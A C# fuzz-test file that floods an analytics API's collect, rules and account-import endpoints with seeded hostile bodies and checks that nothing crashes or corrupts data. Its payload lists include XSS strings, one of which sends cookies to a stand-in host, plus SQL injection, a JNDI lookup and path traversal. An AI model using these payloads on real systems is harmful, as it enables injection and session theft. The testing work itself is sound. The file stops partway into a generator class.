using System.Collections.Concurrent;
using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Nodes;
using VisitorGrains.Domain.Sites;
using VisitorGrains.Tests.Support;
using Xunit.Abstractions;

namespace VisitorGrains.Tests.Hardening;

/// <summary>
/// Generated hostile input at the public door and in the marketers' documents: never a 5xx, the process
/// stays up, a rejected batch leaves nothing behind and a known-good visitor is untouched. Every body
/// comes from a seeded generator (set VG_FUZZ_SEED to replay another seed); failures name the seed and case.
/// </summary>
[Collection(nameof(FuzzTests))]
public sealed class FuzzTests(ITestOutputHelper output)
{
    private const int CollectCases = 10_000;
    private const int RulesCases = 1_000;
    private const int AccountsCases = 1_000;
    private const string KnownGood = "v_known_good_0001";
    private const int FuzzCompanies = 8;

    private static readonly int Seed =
        int.TryParse(Environment.GetEnvironmentVariable("VG_FUZZ_SEED"), NumberStyles.Integer, CultureInfo.InvariantCulture, out var seed)
            ? seed
            : 20_251_123;

    /// <summary>The rate limits lifted far out of reach, so the fuzz reaches the parser rather than the buckets.</summary>
    private static readonly Dictionary<string, string?> Unlimited = new()
    {
        ["RateLimits:PerIpPerSecond"] = "1000000",
        ["RateLimits:PerIpBurst"] = "1000000",
        ["RateLimits:PerSitePerSecond"] = "1000000",
        ["RateLimits:PerSiteBurst"] = "1000000",
    };

    private static readonly int[] CollectAnswers = [202, 400, 403, 413, 415, 429];

    [Fact]
    public async Task Collect_TenThousandHostileBodies_NoServerError_NoPartialBatch_NothingCorrupted()
    {
        using var data = new TempDirectory();
        await using var host = await ApiHost.StartAsync(data.Path, Unlimited);
        using var client = FuzzClient(host, workers: 8);

        foreach (var path in new[] { "/pricing", "/customers/acme", "/products/widget" })
        {
            var response = await host.CollectAsync(Payloads.PageViews("demo", KnownGood, path), "203.0.113.10");
            Assert.Equal(HttpStatusCode.Accepted, response.StatusCode);
        }

        var before = await ReadVisitorAsync(host, KnownGood);
        var generator = new HostileCollectBodies(Seed, KnownGood, Payloads.Now);
        var histogram = new ConcurrentDictionary<int, int>();
        var kinds = new ConcurrentDictionary<string, int>(StringComparer.Ordinal);
        var failures = new ConcurrentQueue<string>();
        var outcomes = new CollectCase?[CollectCases];
        var statuses = new int[CollectCases];
        var clock = Stopwatch.StartNew();

        await RunAsync(CollectCases, workers: 8, async i =>
        {
            var c = generator.Generate(i);
            kinds.AddOrUpdate(c.Kind, 1, (_, n) => n + 1);
            var (status, answer) = await SendAsync(client, c.ToRequest());
            histogram.AddOrUpdate(status, 1, (_, n) => n + 1);
            statuses[i] = status;
            if (!CollectAnswers.Contains(status))
            {
                failures.Enqueue($"case {i} ({c.Kind}): {status} is not one of {string.Join('/', CollectAnswers)}; body {c.Preview()}; answer {Clip(answer)}");
            }
            else if (c.Expected.Status() is { } expected && expected != status)
            {
                failures.Enqueue($"case {i} ({c.Kind}): expected {expected}, got {status}; body {c.Preview()}; answer {Clip(answer)}");
            }
            else if (status == 400 && !IsProblemWithErrors(answer))
            {
                failures.Enqueue($"case {i} ({c.Kind}): a 400 that does not list what is wrong: {Clip(answer)}; body {c.Preview()}");
            }

            outcomes[i] = c.Body.Length <= 4096 ? c : c with { Body = c.Body[..4096] };
        });

        output.WriteLine($"seed {Seed}: {CollectCases} bodies in {clock.Elapsed.TotalSeconds:F1}s; statuses {Describe(histogram)}");
        output.WriteLine($"kinds {Describe(kinds)}");
        var context = $"seed {Seed} (VG_FUZZ_SEED replays it); statuses {Describe(histogram)}";
        Assert.True(failures.IsEmpty, $"{failures.Count} bad answers, {context}:\n{string.Join('\n', failures.Take(25))}");
        Assert.DoesNotContain(histogram.Keys, status => status >= 500);

        await AssertHealthyAsync(host, context);

        // The known-good visitor saw mixed, truncated and oversized batches under its own id: none of it counts.
        var answered = outcomes.Select((c, i) => (Case: c!, Status: statuses[i])).ToList();
        var aimed = answered.Count(a => a.Case.Visitor == KnownGood && a.Status is 400 or 413);
        Assert.True(aimed >= 100, $"only {aimed} refused batches were aimed at the known-good visitor, {context}");
        var after = await ReadVisitorAsync(host, KnownGood);
        foreach (var field in new[] { "stage", "score", "temperature", "pageViews", "events", "sessions", "journey", "lastSeen" })
        {
            Assert.True(after.GetProperty(field).GetRawText() == before.GetProperty(field).GetRawText(),
                $"the known-good visitor's {field} changed from {before.GetProperty(field).GetRawText()} to {after.GetProperty(field).GetRawText()}, {context}");
        }

        var absent = answered.Where(a => a.Case.MustBeAbsent && a.Status == 400).Take(100).ToList();
        Assert.True(absent.Count >= 50, $"only {absent.Count} rejected mixed batches under fresh visitors, {context}");
        foreach (var (c, _) in absent)
        {
            var response = await host.Admin.GetAsync($"/api/sites/demo/visitors/{c.Visitor}");
            Assert.True(response.StatusCode == HttpStatusCode.NotFound,
                $"case {c.Index} ({c.Kind}) was rejected whole yet visitor {c.Visitor} answers {(int)response.StatusCode}: {await response.Content.ReadAsStringAsync()}; {context}");
        }

        // Accepted hostile text is kept as sent (no double escaping, nothing cut) and reads back as JSON.
        var accepted = answered.Where(a => a.Status == 202 && a.Case.Visitor is not null && !a.Case.Bot).ToList();
        var titles = accepted.Where(a => a.Case.ExpectTitle is not null).Take(60).ToList();
        var counted = accepted.Where(a => a.Case.ExpectEvents is not null).Take(60).ToList();
        var others = accepted.Where(a => a.Case.ExpectTitle is null && a.Case.ExpectEvents is null).Take(120).ToList();
        Assert.True(titles.Count >= 20 && counted.Count >= 20, $"too few accepted cases to read back ({titles.Count} titles, {counted.Count} counted), {context}");
        foreach (var (c, _) in titles.Concat(counted).Concat(others))
        {
            var response = await host.Admin.GetAsync($"/api/sites/demo/visitors/{c.Visitor}");
            var text = await response.Content.ReadAsStringAsync();
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"case {c.Index} ({c.Kind}) was accepted; reading {c.Visitor} answers {(int)response.StatusCode}: {text}; {context}");
            var visitor = JsonDocument.Parse(text).RootElement;
            if (c.ExpectTitle is { } title)
            {
                var kept = visitor.GetProperty("journey").EnumerateArray().Select(j => j.TryGetProperty("title", out var t) ? t.GetString() : null).ToList();
                Assert.True(kept.Contains(title), $"case {c.Index} ({c.Kind}): title {JsonSerializer.Serialize(title)} came back as {JsonSerializer.Serialize(kept)}; {context}");
            }

            if (c.ExpectEvents is { } events)
            {
                Assert.True(visitor.GetProperty("events").GetInt64() == events,
                    $"case {c.Index} ({c.Kind}): {events} distinct events sent, {visitor.GetProperty("events").GetInt64()} kept; {context}");
            }
        }

        output.WriteLine($"{aimed} refused batches aimed at the known-good visitor; read back {absent.Count} rejected, {titles.Count} titled, {counted.Count} counted and {others.Count} other visitors");
    }

    [Fact]
    public async Task RulesDocuments_AThousandMutations_NoServerError_AndTheRulesInForceStayUsable()
    {
        using var data = new TempDirectory();
        await using var host = await ApiHost.StartAsync(data.Path, Unlimited);
        using var client = FuzzClient(host, workers: 4, ApiHost.AdminKey);
        await ImportFuzzCompaniesAsync(host);
        for (var i = 0; i < FuzzCompanies; i++)
        {
            Assert.Null(await ScoreUnderCurrentRulesAsync(host, client, $"v_rules_before_{i}", (i * 32) + 5));
        }

        var original = await host.Admin.GetStringAsync("/api/sites/demo/rules");
        var generator = new HostileRules(Seed, original);
        var histogram = new ConcurrentDictionary<int, int>();
        var failures = new ConcurrentQueue<string>();
        var accepted = new ConcurrentBag<string>();
        var clock = Stopwatch.StartNew();

        await RunAsync(RulesCases, workers: 4, async i =>
        {
            var (kind, body, contentType) = generator.Generate(i);
            using var request = new HttpRequestMessage(HttpMethod.Put, "/api/sites/demo/rules") { Content = Content(body, contentType) };
            var (status, answer) = await SendAsync(client, request);
            histogram.AddOrUpdate(status, 1, (_, n) => n + 1);
            var preview = Preview(body);
            if (status is not (200 or 400 or 413))
            {
                failures.Enqueue($"case {i} ({kind}): {status}; document {preview}; answer {Clip(answer)}");
            }
            else if (status == 400 && !IsProblemWithErrors(answer))
            {
                failures.Enqueue($"case {i} ({kind}): a 400 without problem details and an errors object: {Clip(answer)}; document {preview}");
            }
            else if (status == 200)
            {
                accepted.Add(Encoding.UTF8.GetString(body));
                // The document applies to the next event: events scored under it are accepted and read back.
                // Reading a company (with its visitors' journeys) costs more: after every extreme document and a sample of the rest.
                var failure = await ScoreUnderCurrentRulesAsync(host, client, $"v_rules_{i:D5}", 1 + (i % 250), readCompany: kind == "extremes" || i % 8 == 0);
                if (failure is not null)
                {
                    failures.Enqueue($"case {i} ({kind}) was accepted, then {failure}; document {preview}");
                }
            }
        });

        output.WriteLine($"seed {Seed}: {RulesCases} rules documents in {clock.Elapsed.TotalSeconds:F1}s; statuses {Describe(histogram)}");
        var context = $"seed {Seed} (VG_FUZZ_SEED replays it); statuses {Describe(histogram)}";
        Assert.True(failures.IsEmpty, $"{failures.Count} bad answers, {context}:\n{string.Join('\n', failures.Take(25))}");
        Assert.True(accepted.Count is > 20 and < RulesCases - 100, $"{accepted.Count} documents accepted: the mutations should mostly, not always, break the document; {context}");

        var inForce = await host.Admin.GetAsync("/api/sites/demo/rules");
        Assert.Equal(HttpStatusCode.OK, inForce.StatusCode);
        var text = await inForce.Content.ReadAsStringAsync();
        using (JsonDocument.Parse(text))
        {
            Assert.True(text == original || accepted.Contains(text), $"the rules in force are neither the original nor an accepted document, {context}: {Preview(Encoding.UTF8.GetBytes(text))}");
        }

        // Every accepted document became a version (the site keeps the latest ones), every refused one did not.
        Assert.Equal((accepted.Count + 1).ToString(CultureInfo.InvariantCulture), inForce.Headers.GetValues("VG-Rules-Version").Single());
        var versions = JsonDocument.Parse(await host.Admin.GetStringAsync("/api/sites/demo/rules/versions")).RootElement;
        Assert.Equal(Math.Min(accepted.Count + 1, SiteDefinition.MaxRulesVersions), versions.GetArrayLength());
        Assert.Equal(accepted.Count + 1, versions[0].GetProperty("version").GetInt32());
        await AssertHealthyAsync(host, context);
        var last = await ScoreUnderCurrentRulesAsync(host, client, "v_rules_after_01", 251);
        Assert.True(last is null, $"under the rules in force, {last}; {context}");
        var reads = Enumerable.Range(0, FuzzCompanies).Select(i => $"/api/sites/demo/companies/fuzz{i}.example")
            .Concat(["/api/sites/demo/companies", "/api/sites/demo/alerts?after=0"]);
        foreach (var path in reads)
        {
            var response = await client.GetAsync(path);
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{path} answers {(int)response.StatusCode}: {await response.Content.ReadAsStringAsync()}; {context}");
        }
    }

    [Fact]
    public async Task AccountImports_AThousandMutatedCsvAndJsonBodies_NoServerError()
    {
        using var data = new TempDirectory();
        await using var host = await ApiHost.StartAsync(data.Path, Unlimited);
        using var client = FuzzClient(host, workers: 4, ApiHost.AdminKey);
        var generator = new HostileAccounts(Seed);
        var histogram = new ConcurrentDictionary<int, int>();
        var failures = new ConcurrentQueue<string>();
        var clock = Stopwatch.StartNew();

        await RunAsync(AccountsCases, workers: 4, async i =>
        {
            var (kind, body, contentType) = generator.Generate(i);
            using var request = new HttpRequestMessage(HttpMethod.Post, "/api/sites/demo/accounts") { Content = Content(body, contentType) };
            var (status, answer) = await SendAsync(client, request);
            histogram.AddOrUpdate(status, 1, (_, n) => n + 1);
            if (status is not (200 or 400 or 413))
            {
                failures.Enqueue($"case {i} ({kind}): {status}; body {Preview(body)}; answer {Clip(answer)}");
            }
            else if (status is 200 or 400 && !IsJson(answer))
            {
                failures.Enqueue($"case {i} ({kind}): {status} without a JSON answer: {Clip(answer)}");
            }
        });

        output.WriteLine($"seed {Seed}: {AccountsCases} account imports in {clock.Elapsed.TotalSeconds:F1}s; statuses {Describe(histogram)}");
        var context = $"seed {Seed} (VG_FUZZ_SEED replays it); statuses {Describe(histogram)}";
        Assert.True(failures.IsEmpty, $"{failures.Count} bad answers, {context}:\n{string.Join('\n', failures.Take(25))}");
        Assert.True(histogram.GetValueOrDefault(200) > 50 && histogram.GetValueOrDefault(400) > 50, $"both imports and refusals are exercised, {context}");

        await AssertHealthyAsync(host, context);
        var accounts = await client.GetAsync("/api/sites/demo/accounts");
        Assert.Equal(HttpStatusCode.OK, accounts.StatusCode);
        Assert.Equal(JsonValueKind.Array, JsonDocument.Parse(await accounts.Content.ReadAsStringAsync()).RootElement.ValueKind);

        // Whatever was imported, identification against it still works: a page view from the imported network is counted.
        var collected = await host.CollectAsync(Payloads.PageViews("demo", "v_accounts_after", "/pricing"), "198.51.100.77");
        Assert.Equal(HttpStatusCode.Accepted, collected.StatusCode);
        var visitor = await host.Admin.GetAsync("/api/sites/demo/visitors/v_accounts_after");
        Assert.True(visitor.StatusCode == HttpStatusCode.OK, $"the visitor answers {(int)visitor.StatusCode}: {await visitor.Content.ReadAsStringAsync()}; {context}");
        var companies = await client.GetAsync("/api/sites/demo/companies");
        Assert.True(companies.StatusCode == HttpStatusCode.OK, $"companies answer {(int)companies.StatusCode}: {await companies.Content.ReadAsStringAsync()}; {context}");
    }

    private static HttpClient FuzzClient(ApiHost host, int workers, string? key = null)
    {
        var client = new HttpClient(new SocketsHttpHandler { MaxConnectionsPerServer = workers, PooledConnectionLifetime = TimeSpan.FromMinutes(5) })
        {
            BaseAddress = host.Address,
            // A hang is a failure too: nothing here may take anywhere near this long.
            Timeout = TimeSpan.FromSeconds(30),
        };
        if (key is not null)
        {
            client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", key);
        }

        return client;
    }

    /// <summary>Runs the cases on a few concurrent workers; each case is rebuilt from the seed and its index.</summary>
    private static async Task RunAsync(int count, int workers, Func<int, Task> each)
    {
        var next = -1;
        await Task.WhenAll(Enumerable.Range(0, workers).Select(_ => Task.Run(async () =>
        {
            int i;
            while ((i = Interlocked.Increment(ref next)) < count)
            {
                await each(i);
            }
        })));
    }

    /// <summary>The status and the answer; a transport failure (a reset, a time-out) is status 0 with the exception.</summary>
    private static async Task<(int Status, string Answer)> SendAsync(HttpClient client, HttpRequestMessage request)
    {
        try
        {
            using var response = await client.SendAsync(request);
            return ((int)response.StatusCode, await response.Content.ReadAsStringAsync());
        }
        catch (Exception ex) when (ex is HttpRequestException or TaskCanceledException or IOException)
        {
            return (0, $"{ex.GetType().Name}: {ex.Message} {ex.InnerException?.Message}");
        }
        finally
        {
            request.Dispose();
        }
    }

    private static ByteArrayContent Content(byte[] body, string? contentType)
    {
        var content = new ByteArrayContent(body);
        if (contentType is not null)
        {
            content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        }

        return content;
    }

    private static async Task AssertHealthyAsync(ApiHost host, string context)
    {
        using var anonymous = host.Client();
        var health = await anonymous.GetAsync("/healthz");
        Assert.True(health.StatusCode == HttpStatusCode.OK, $"/healthz answered {(int)health.StatusCode} after the fuzz, {context}");
    }

    private static async Task<JsonElement> ReadVisitorAsync(ApiHost host, string visitor)
    {
        var response = await host.Admin.GetAsync($"/api/sites/demo/visitors/{visitor}");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.Clone();
    }

    /// <summary>
    /// Eight known accounts on 203.0.113.0/24 (each a /27, every CRM status, with and without owners), so
    /// events scored in the rules fuzz reach companies, their fit, their routing and their alerts.
    /// </summary>
    private static async Task ImportFuzzCompaniesAsync(ApiHost host)
    {
        var csv = new StringBuilder("name,domain,status,owner,products,industry,employees,revenue,country,ip_ranges\n");
        string[] statuses = ["customer", "lost-deal", "target", "competitor", "own", "", "customer", "target"];
        for (var i = 0; i < FuzzCompanies; i++)
        {
            csv.Append(CultureInfo.InvariantCulture,
                $"Fuzz Corp {i},fuzz{i}.example,{statuses[i]},{(i % 2 == 0 ? "erik" : "")},widget;gadget,{(i % 3 == 0 ? "automotive" : "retail")},{i * 300},{i * 1_000_000},{(i % 2 == 0 ? "SE" : "US")},203.0.113.{i * 32}/27\n");
        }

        var response = await host.Admin.PostAsync("/api/sites/demo/accounts", new StringContent(csv.ToString(), Encoding.UTF8, "text/csv"));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }

    /// <summary>
    /// Sends a visit under the rules now in force (out-of-order timestamps, a return visit, a day of engagement,
    /// a scored event) from a fuzz company's range and reads the visitor (and the company) back; null when all went well.
    /// </summary>
    private static async Task<string?> ScoreUnderCurrentRulesAsync(ApiHost host, HttpClient admin, string visitor, int host4, bool readCompany = true)
    {
        var now = Payloads.Now;
        var body = Payloads.Events("demo", visitor,
            new { id = "e_1", type = "pageview", ts = now, url = "https://example.com/pricing", title = "Pricing" },
            new { id = "e_2", type = "pageview", ts = now - (3 * 86_400_000L), url = "https://example.com/products/widget-x" },
            new { id = "e_3", type = "pageview", ts = now - 1000, url = "https://example.com/careers/" },
            new { id = "e_4", type = "engagement", ts = now + 1000, url = "https://example.com/pricing", engagedMs = 86_400_000, scroll = 100 },
            new { id = "e_5", type = "event", ts = now + 2000, name = "demo_requested", props = new { plan = "pro" } });
        var collected = await host.CollectAsync(body, $"203.0.113.{host4}");
        if (collected.StatusCode != HttpStatusCode.Accepted)
        {
            return $"a visit answered {(int)collected.StatusCode}: {await collected.Content.ReadAsStringAsync()}";
        }

        // The visitor is durable at the 202; its company hears of it right after, from the visitor's outbox
        // (an unknown company answers 404 until then), so the company is read until it has.
        var visitorRead = await ReadJsonAsync(admin, $"/api/sites/demo/visitors/{visitor}");
        if (visitorRead is not null || !readCompany)
        {
            return visitorRead;
        }

        var company = $"/api/sites/demo/companies/fuzz{host4 / 32}.example";
        return await Eventually.GetAsync(() => ReadJsonAsync(admin, company), failure => failure is null);
    }

    /// <summary>Null when <paramref name="path"/> answers 200 with JSON, else what it answered.</summary>
    private static async Task<string?> ReadJsonAsync(HttpClient admin, string path)
    {
        using var read = await admin.GetAsync(path);
        var text = await read.Content.ReadAsStringAsync();
        return read.StatusCode == HttpStatusCode.OK && IsJson(text) ? null : $"{path} answered {(int)read.StatusCode}: {Clip(text)}";
    }

    private static bool IsJson(string text)
    {
        try
        {
            using var _ = JsonDocument.Parse(text);
            return true;
        }
        catch (JsonException)
        {
            return false;
        }
    }

    private static bool IsProblemWithErrors(string text)
    {
        try
        {
            using var document = JsonDocument.Parse(text);
            return document.RootElement.ValueKind == JsonValueKind.Object
                   && document.RootElement.TryGetProperty("status", out var status) && status.ValueKind == JsonValueKind.Number && status.GetInt32() == 400
                   && document.RootElement.TryGetProperty("errors", out var errors) && errors.ValueKind == JsonValueKind.Object
                   && errors.EnumerateObject().Any();
        }
        catch (JsonException)
        {
            return false;
        }
    }

    private static string Describe<TKey>(ConcurrentDictionary<TKey, int> histogram) where TKey : notnull =>
        string.Join(", ", histogram.OrderBy(h => h.Key).Select(h => $"{h.Key}×{h.Value}"));

    private static string Clip(string text) => text.Length > 600 ? text[..600] + "…" : text;

    internal static string Preview(byte[] body)
    {
        var text = Encoding.UTF8.GetString(body, 0, Math.Min(body.Length, 300));
        return $"({body.Length} bytes) {JsonSerializer.Serialize(text)}{(body.Length > 300 ? "…" : "")}";
    }
}

/// <summary>The fuzz runs alone, after the rest: it keeps every core busy, and other tests have time limits of their own.</summary>
[CollectionDefinition(nameof(FuzzTests), DisableParallelization = true)]
public sealed class FuzzCollection;

/// <summary>What /collect must answer to a generated request, where the generator can tell.</summary>
internal enum Expected
{
    Any,
    Accepted,
    Rejected,
    Forbidden,
    TooLarge,
    Unsupported,
}

/// <summary>The status each expectation stands for.</summary>
internal static class ExpectedStatus
{
    public static int? Status(this Expected expected) => expected switch
    {
        Expected.Accepted => 202,
        Expected.Rejected => 400,
        Expected.Forbidden => 403,
        Expected.TooLarge => 413,
        Expected.Unsupported => 415,
        _ => null,
    };
}

/// <summary>One generated request to /collect, rebuilt exactly from the seed and its index.</summary>
internal sealed record CollectCase(int Index, string Kind, byte[] Body, Expected Expected)
{
    public string? ContentType { get; init; } = "text/plain; charset=utf-8";
    public bool Chunked { get; init; }
    public string? Origin { get; init; }
    public string? ForwardedFor { get; init; }
    public string? UserAgent { get; init; }
    public bool Bot { get; init; }

    /// <summary>The visitor the batch is for, when the generator kept it well-formed.</summary>
    public string? Visitor { get; init; }

    /// <summary>A fresh visitor in a batch that must be rejected whole: it must not exist afterwards.</summary>
    public bool MustBeAbsent { get; init; }

    public string? ExpectTitle { get; init; }
    public int? ExpectEvents { get; init; }

    public HttpRequestMessage ToRequest()
    {
        var request = new HttpRequestMessage(HttpMethod.Post, "/collect") { Content = new ByteArrayContent(Body) };
        if (ContentType is not null)
        {
            request.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
        }

        if (Chunked)
        {
            request.Headers.TransferEncodingChunked = true;
        }

        if (Origin is not null)
        {
            request.Headers.TryAddWithoutValidation("Origin", Origin);
        }

        if (ForwardedFor is not null)
        {
            request.Headers.TryAddWithoutValidation("X-Forwarded-For", ForwardedFor);
        }

        if (UserAgent is not null)
        {
            request.Headers.TryAddWithoutValidation("User-Agent", UserAgent);
        }

        return request;
    }

    public string Preview() =>
        $"{FuzzTests.Preview(Body)} as {ContentType ?? "(no type)"}{(Chunked ? ", chunked" : "")}{(Origin is null ? "" : $", origin {Origin}")}{(Bot ? ", bot" : "")}";
}

/// <summary>Seeded choices and the hostile values the generators share.</summary>
internal static class Hostile
{
    public static readonly string[] Strings =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(document.cookie)>",
        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
        "javascript:alert(1)",
        "' OR '1'='1",
        "'; DROP TABLE events; --",
        "Robert'); DROP TABLE visitors;--",
        "1; SELECT * FROM sqlite_master",
        "\" UNION SELECT NULL, NULL --",
        "${jndi:ldap://198.51.100.1/a}",
        "{{7*7}}<%= 7*7 %>",
        "../../../../etc/passwd",
        "%00%0d%0aSet-Cookie:%20x=1",
        "\r\nX-Injected: 1",
        "\u0000\u0001\u0002\u001b[31mred",
        "\u202eevil\u202c",
        "\ufeff",
        "Z\u0335\u0321\u0347a\u0338\u0322lgo",
        "😀👩‍👩‍👧‍👦",
        "\t \n ",
        "",
        "null",
        "__proto__",
        "constructor",
        "\\",
        "\\u0000",
        "\"",
        "Ω≈ç√∫˜µ≤≥÷",
        "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
        "ﷺ",
    ];

    /// <summary>Hostile titles a page may carry and that must come back exactly as sent.</summary>
    public static readonly string[] Titles =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(document.cookie)>",
        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
        "' OR '1'='1",
        "'; DROP TABLE events; --",
        "Robert'); DROP TABLE visitors;--",
        "\" UNION SELECT NULL, NULL --",
        "${jndi:ldap://198.51.100.1/a}",
        "{{7*7}}<%= 7*7 %>",
        "</title><script>x</script>",
        "\u202eevil\u202c",
        "😀👩‍👩‍👧‍👦 Ω≈ç√",
        "Z\u0335\u0321\u0347a\u0338\u0322lgo",
        "\\u0000 \\\" \\\\",
        "SELECT * FROM \"events\" WHERE 1=1",
    ];

    /// <summary>Raw JSON numbers (and near-numbers) that parsers get wrong.</summary>
    public static readonly string[] EdgeNumbers =
    [
        "1e400", "-1e400", "-0", "0", "-1", "9999999999999999999999", "-9999999999999999999999",
        "1.7976931348623157e308", "-1.7976931348623157e308", "5e-324", "1e-400", "2147483647", "2147483648",
        "-2147483649", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1E2", "0.5", "1.0",
        "\"NaN\"", "\"Infinity\"", "\"-Infinity\"", "\"1e308\"", "\"12\"", "NaN", "Infinity", "-Infinity", "01",
        "1.", ".5", "+1", "0x10", "1e", "--1", "1_000",
    ];

    /// <summary>Byte sequences that are not UTF-8 (overlong, surrogates, cut short, beyond U+10FFFF).</summary>
    public static readonly byte[][] InvalidUtf8 =
    [
        [0xC0, 0x80], [0xC3], [0xFF], [0xFE], [0x80], [0xBF, 0xBF], [0xED, 0xA0, 0x80], [0xED, 0xBF, 0xBF],
        [0xF4, 0x90, 0x80, 0x80], [0xE2, 0x82], [0xF0, 0x9F, 0x98], [0xE0, 0x80, 0xAF], [0xF8, 0x88, 0x80, 0x80, 0x80],
    ];

    /// <summary>JSON string escapes that are not valid UTF-16 (lone surrogates).</summary>
    public static readonly string[] LoneSurrogates = ["\"\\ud800\"", "\"a\\udc00b\"", "\"\\udbff\\ud800\"", "\"x\\ud83d\""];

    public static T Pick<T>(this Random r, IReadOnlyList<T> items) => items[r.Next(items.Count)];

    public static bool Chance(this Random r, double p) => r.NextDouble() < p;

    public static JsonNode? WrongType(Random r, JsonDraft draft) => r.Next(14) switch
    {
        0 => 123,
        1 => -1,
        2 => true,
        3 => false,
        4 => null,
        5 => new JsonArray(),
        6 => new JsonArray(1, "a", null, new JsonObject()),
        7 => new JsonObject(),
        8 => new JsonObject { ["a"] = 1, ["b"] = new JsonArray("x") },
        9 => "123",
        10 => 1.5,
        11 => draft.Raw(r.Pick(LoneSurrogates)),
        12 => draft.Raw(r.Pick(EdgeNumbers)),
        _ => r.Pick(Strings),
    };

    public static string Nesting(Random r, int depth) => r.Next(3) switch
    {
        0 => new string('[', depth) + new string(']', depth),
        1 => string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth),
        _ => new string('[', depth),
    };

    public static string Long(Random r, int length) => r.Next(3) switch
    {
        0 => new string('x', length),
        1 => string.Concat(Enumerable.Repeat("é", length / 2)),
        _ => string.Concat(Enumerable.Repeat("<script>", length / 8)),
    };

    public static byte[] Truncate(Random r, byte[] body) => body.Length == 0 ? body : body[..r.Next(0, body.Length)];

    public static byte[] Flip(Random r, byte[] body)
    {
        var copy = (byte[])body.Clone();
        for (var n = r.Next(1, 9); n > 0 && copy.Length > 0; n--)
        {
            copy[r.Next(copy.Length)] = (byte)r.Next(256);
        }

        return copy;
    }

    public static byte[] Insert(byte[] body, int at, byte[] what) => [.. body.AsSpan(0, at), .. what, .. body.AsSpan(at)];

    /// <summary>Puts bytes inside a string value where there is one (just after an opening quote), else anywhere.</summary>
    public static byte[] InsertInString(Random r, byte[] body, byte[] what)
    {
        var quotes = body.Select((b, i) => (b, i)).Where(x => x.b == (byte)'"').Select(x => x.i + 1).ToList();
        return Insert(body, quotes.Count > 0 ? r.Pick(quotes) : r.Next(body.Length + 1), what);
    }

    /// <summary>One byte-level mutation of a body; also says whether the result can no longer be valid JSON.</summary>
    public static (string Kind, byte[] Body, bool Broken) Bytes(Random r, byte[] body)
    {
        switch (r.Next(7))
        {
            case 0:
                return ("truncated", Truncate(r, body), true);
            case 1:
                return ("byte-flips", Flip(r, body), false);
            case 2:
                return ("invalid-utf8", InsertInString(r, body, r.Pick(InvalidUtf8)), false);
            case 3:
                return ("bom", r.Chance(0.7)
                    ? [0xEF, 0xBB, 0xBF, .. body]
                    : [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(body))], false);
            case 4:
                var nul = body;
                for (var n = r.Next(1, 4); n > 0; n--)
                {
                    nul = Insert(nul, r.Next(nul.Length + 1), [0]);
                }

                return ("nul-bytes", nul, true);
            case 5:
                return ("invalid-utf8-anywhere", Insert(body, r.Next(body.Length + 1), r.Pick(InvalidUtf8)), true);
            default:
                return ("cr-lf-tab", Insert(body, r.Next(body.Length + 1), Encoding.ASCII.GetBytes(r.Pick(new[] { "\r\n", "\t", "\r", "\v", "\f" }))), false);
        }
    }
}

/// <summary>
/// A JSON tree under mutation, with raw JSON text spliced in where a tree cannot hold it
/// (1e400, a lone surrogate escape, 10,000 unclosed brackets).
/// </summary>
internal sealed class JsonDraft(Random random)
{
    private static readonly JsonSerializerOptions Strict = new();
    private static readonly JsonSerializerOptions Relaxed = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private readonly Dictionary<string, string> _raw = new(StringComparer.Ordinal);

    public JsonNode Raw(string json)
    {
        var key = $"@@raw{_raw.Count}@@";
        _raw[key] = json;
        return JsonValue.Create(key);
    }

    /// <summary>Escaped the strict way or the relaxed way (raw '&lt;', non-ASCII as UTF-8), then the raw parts spliced in.</summary>
    public byte[] Render(JsonNode? node)
    {
        var text = node?.ToJsonString(random.Chance(0.5) ? Strict : Relaxed) ?? "null";
        foreach (var (key, json) in _raw)
        {
            text = text.Replace($"\"{key}\"", json, StringComparison.Ordinal);
        }

        return Encoding.UTF8.GetBytes(text);
    }

    /// <summary>Every place in the tree a value can be replaced: an object's property or an array's item.</summary>
    public static List<(JsonNode Parent, object Key)> Slots(JsonNode root)
    {
        var slots = new List<(JsonNode, object)>();
        void Walk(JsonNode? node)
        {
            switch (node)
            {
                case JsonObject o:
                    foreach (var (key, value) in o.ToList())
                    {
                        slots.Add((o, key));
                        Walk(value);
                    }

                    break;
                case JsonArray a:
                    for (var i = 0; i < a.Count; i++)
                    {
                        slots.Add((a, i));
                        Walk(a[i]);
                    }

                    break;
            }
        }

        Walk(root);
        return slots;
    }

    public static JsonNode? Get(JsonNode parent, object key) => parent is JsonObject o ? o[(string)key] : ((JsonArray)parent)[(int)key];

    public static void Set(JsonNode parent, object key, JsonNode? value)
    {
        if (parent is JsonObject o)
        {
            o[(string)key] = value;
        }
        else
        {
            ((JsonArray)parent)[(int)key] = value;
        }
    }

    public static void Remove(JsonNode parent, object key)
    {
        if (parent is JsonObject o)
        {
            o.Remove((string)key);
        }
        else
        {
            ((JsonArray)parent).RemoveAt((int)key);
        }
    }
}

/// <summary>
/// Hostile /collect requests: valid batches mutated in every way the issue lists, at the JSON level and
/// at the byte level, wrapped in varied transports (content types, chunked bodies, origins, forwarded
/// addresses, bots). About a fifth stay valid, so acceptance is exercised too.
/// </summary>
internal sealed class HostileCollectBodies(int seed, string protectedVisitor, long now)
{
    private const int Limit = 64 * 1024;

    private static readonly string[] Paths =
        ["/", "/pricing", "/pricing/enterprise", "/contact", "/customers/acme", "/products/widget-x", "/careers", "/blog/post-1", "/docs/api?x=1"];

